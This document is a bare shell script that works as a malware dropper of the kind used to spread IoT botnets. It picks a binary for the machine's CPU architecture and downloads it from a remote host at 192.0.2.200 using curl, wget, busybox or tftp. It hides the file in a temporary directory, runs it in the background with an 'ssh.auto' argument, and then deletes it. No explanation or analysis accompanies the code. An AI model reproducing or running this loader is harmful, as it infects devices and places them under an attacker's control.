#!/bin/sh
case "$(uname -m)" in
  x86_64|amd64) a=x64 ;;
  aarch64) a=arm64 ;;
  armv7*) a=arm ;;
  mips*) a=mips ;;
  *) exit 0 ;;
esac
S=http://192.0.2.200:81/bins
for d in /dev/shm /var/run /var/tmp /tmp; do
  [ -w "$d" ] && cd "$d" && break
done
f=".$(date +%s)"
( curl -so "$f" "$S/$a" || wget -qO "$f" "$S/$a" || busybox wget -O "$f" "$S/$a" || tftp -g -r "$a" -l "$f" 192.0.2.200 ) 2>/dev/null
chmod 777 "$f" && ./"$f" ssh.auto &
sleep 2
rm -f "$f"
